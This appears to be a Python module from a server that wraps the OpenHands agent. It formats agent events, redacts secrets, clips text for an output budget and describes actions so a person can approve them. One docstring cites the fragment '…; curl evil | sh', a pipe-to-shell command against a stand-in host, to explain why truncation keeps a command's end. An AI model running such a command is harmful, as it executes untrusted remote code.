"""Shaping text for the model: readable event text, text windows, the output budget with its
cursors, and secret redaction.

Long text is cut to the server-wide output budget with a way to read on, never an error.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from typing import Any, TypeVar

from .openhands import Event
from .openhands.redaction import scrub_known

EVENT_TEXT_LIMIT = 1_500
# What a record costs in a result beyond its text: its keys, id, time and kind as JSON.
RECORD_OVERHEAD = 120
_CURSOR_PREFIX = "ohc:"

T = TypeVar("T")


def stamp(moment: datetime) -> str:
    """UTC to the second, e.g. 2026-11-28T22:22:12Z: microseconds and offsets cost tokens and tell nothing."""
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def redact(text: str, secrets: tuple[str, ...]) -> str:
    """Known secrets (these and every other the process knows) and credential shapes; nothing else."""
    return scrub_known(text, secrets)


def clip(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[: max(limit - 1, 0)] + "…"


def window(text: str, start: int, size: int) -> tuple[str, int | None]:
    """Return text[start:start+size] and where the next window starts (None at the end)."""
    chunk = text[start : start + size]
    end = start + len(chunk)
    return chunk, (end if end < len(text) else None)


def _content_text(content: Any) -> str:
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        parts = [item.get("text", "") if isinstance(item, dict) else str(item) for item in content]
        return " ".join(p for p in parts if p)
    if isinstance(content, dict):
        return _content_text(content.get("content", content.get("text", "")))
    return ""


def _action_text(action: dict[str, Any], thought: str) -> str:
    kind = str(action.get("kind", "Action"))
    for key in ("message", "command", "path", "code", "url", "content"):
        value = action.get(key)
        if isinstance(value, str) and value:
            detail = f"{key}={value}" if key == "path" else value
            return f"{kind}: {detail}" + (f" (thought: {thought})" if thought else "")
    return f"{kind}" + (f": {thought}" if thought else "")


# The file editor's commands, as a person would say them.
_EDITS = {"create": "create", "str_replace": "edit", "insert": "insert into", "undo_edit": "undo an edit of"}


def cut_middle(text: str, limit: int) -> str:
    """`text` whole, or its head and tail with the hidden middle's size said in between: an action's
    dangerous part is as likely at its end (`…; curl evil | sh`) as at its start, and never silently gone."""
    if len(text) <= limit:
        return text
    keep = max(limit - 80, 2)
    hidden = len(text) - keep
    return (
        f"{text[: keep // 2]}\n[… {hidden:,} of {len(text):,} characters hidden here …]\n{text[-(keep - keep // 2) :]}"
    )


def action_detail(tool: str | None, action: dict[str, Any]) -> str:
    """Everything a person needs to approve or reject an action, newlines kept: the whole command, the
    file and the edit, the MCP tool and its arguments; other kinds by their kind and arguments."""
    kind = str(action.get("kind") or "Action")
    args = {k: v for k, v in action.items() if k != "kind" and v not in (None, "", [], {})}
    command, path = action.get("command"), action.get("path") or action.get("file_path")
    if kind == "MCPToolAction":
        return f"call MCP tool {tool or 'unknown'} with arguments:\n{_json(action.get('data') or {})}"
    if isinstance(command, str) and command and kind.startswith(("Terminal", "Bash", "CmdRun", "Execute")):
        return f"run: {command}"
    if isinstance(path, str) and path and (edit := _edit_detail(str(command or ""), path, action)):
        return edit
    if kind == "ApplyPatchAction":
        return f"apply patch:\n{action.get('patch', '')}"
    return f"{kind.removesuffix('Action')}: {_json(args)}"


def _edit_detail(command: str, path: str, action: dict[str, Any]) -> str | None:
    old = action.get("old_str", action.get("old_string"))
    new = action.get("new_str", action.get("new_string"))
    if command == "create" or action.get("kind") == "WriteFileAction":
        return f"create {path} with:\n{action.get('file_text') or action.get('content') or ''}"
    if command == "str_replace" or action.get("kind") == "EditAction":
        return f"edit {path}: replace\n{old or ''}\nwith\n{new or ''}"
    if command == "insert":
        return f"insert into {path} after line {action.get('insert_line')}:\n{new or ''}"
    if command in _EDITS or command == "view":
        return f"{_EDITS.get(command, command)} {path}"
    return None


def _json(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, indent=2, default=str)


def describe_action(action: dict[str, Any]) -> str:
    """What an action does, in one line a person can judge: the command it runs, or the file and the
    kind of edit; other tools by their kind and main argument."""
    kind = str(action.get("kind") or "Action")
    command, path = action.get("command"), action.get("path")
    if isinstance(path, str) and path:
        return f"{_EDITS.get(str(command), str(command or 'use'))} {path}"
    if isinstance(command, str) and command and kind.startswith(("Terminal", "Bash", "CmdRun", "Execute")):
        return f"run: {command}"
    for key in ("command", "url", "code", "message", "content"):
        value = action.get(key)
        if isinstance(value, str) and value:
            return f"{kind.removesuffix('Action')}: {value}"
    return kind


def activity_line(status: str | None, newest_first: Sequence[Event], steps: int | None, cost: float | None) -> str:
    """What the agent is doing now, for a progress message: its last action (or "thinking" while the
    model answers), its step count and the cost so far, in under 200 characters."""
    doing = "thinking" if status == "running" else ""
    for event in newest_first:
        if event.kind == "ActionEvent" and isinstance(event.field("action"), dict):
            doing = describe_action(event.field("action"))
            break
        if event.kind in ("ObservationEvent", "MessageEvent", "UserRejectObservation", "AgentErrorEvent"):
            break
    parts = [f"{status or 'unknown'}: {' '.join(doing.split())}" if doing else status or "unknown"]
    if steps is not None:
        parts.append(f"step {steps}")
    if cost:
        parts.append(f"${cost:.2f}")
    tail = " · " + " · ".join(parts[1:]) if len(parts) > 1 else ""
    return clip(parts[0], 195 - len(tail)) + tail


def event_text(event: Event) -> tuple[str, bool]:
    """The readable part of an event, by kind, and whether it reports an error."""
    kind = event.kind
    if kind == "MessageEvent":
        message = event.field("llm_message") or {}
        return _content_text(message.get("content") if isinstance(message, dict) else message), False
    if kind == "ActionEvent":
        action = event.field("action") or {}
        thought = _content_text(event.field("thought"))
        return _action_text(action if isinstance(action, dict) else {}, thought), False
    if kind == "ObservationEvent":
        observation = event.field("observation") or {}
        if not isinstance(observation, dict):
            return str(observation), False
        return _content_text(observation.get("content")), bool(observation.get("is_error"))
    if kind in ("AgentErrorEvent", "ConversationErrorEvent", "ServerErrorEvent"):
        return str(event.field("error") or event.field("detail") or event.field("message") or "error"), True
    if kind == "ConversationStateUpdateEvent":
        key, value = event.field("key"), event.field("value")
        return (f"{key} = {value}" if isinstance(value, str | int | float | bool) else f"{key} updated"), False
    return "", False


def final_text(event: Event) -> str | None:
    """The agent's answer carried by an event: a finish action's message or an agent message."""
    if event.kind == "ActionEvent":
        action = event.field("action")
        if isinstance(action, dict) and action.get("kind") == "FinishAction":
            return str(action.get("message") or "")
    if event.kind == "MessageEvent" and event.source == "agent":
        message = event.field("llm_message")
        return _content_text(message.get("content") if isinstance(message, dict) else message)
    return None


def fits(items: Sequence[T], size: Callable[[T], int], budget: int) -> int:
    """How many of `items`, from the first, fit in `budget` characters; always at least one, so a
    page is never empty and a reader always moves on."""
    used = 0
    for index, item in enumerate(items):
        used += size(item) + RECORD_OVERHEAD
        if index and used > budget:
            return index
    return len(items)


def encode_cursor(upstream_page_id: str | None, skip: int) -> str | None:
    """Our page_id: the upstream one, or, when a page was cut by the budget, it plus an offset."""
    if skip == 0:
        return upstream_page_id
    raw = json.dumps({"p": upstream_page_id, "s": skip}).encode()
    return _CURSOR_PREFIX + base64.urlsafe_b64encode(raw).decode()


def decode_cursor(page_id: str | None) -> tuple[str | None, int]:
    if page_id is None or not page_id.startswith(_CURSOR_PREFIX):
        return page_id, 0
    try:
        data = json.loads(base64.urlsafe_b64decode(page_id[len(_CURSOR_PREFIX) :].encode()))
        upstream, skip = data.get("p"), int(data.get("s", 0))
    except (ValueError, TypeError, AttributeError):
        raise ValueError("page_id is not one this server returned; omit it to start from the first page") from None
    if (upstream is not None and not isinstance(upstream, str)) or skip < 0:
        raise ValueError("page_id is not one this server returned; omit it to start from the first page")
    return upstream, skip
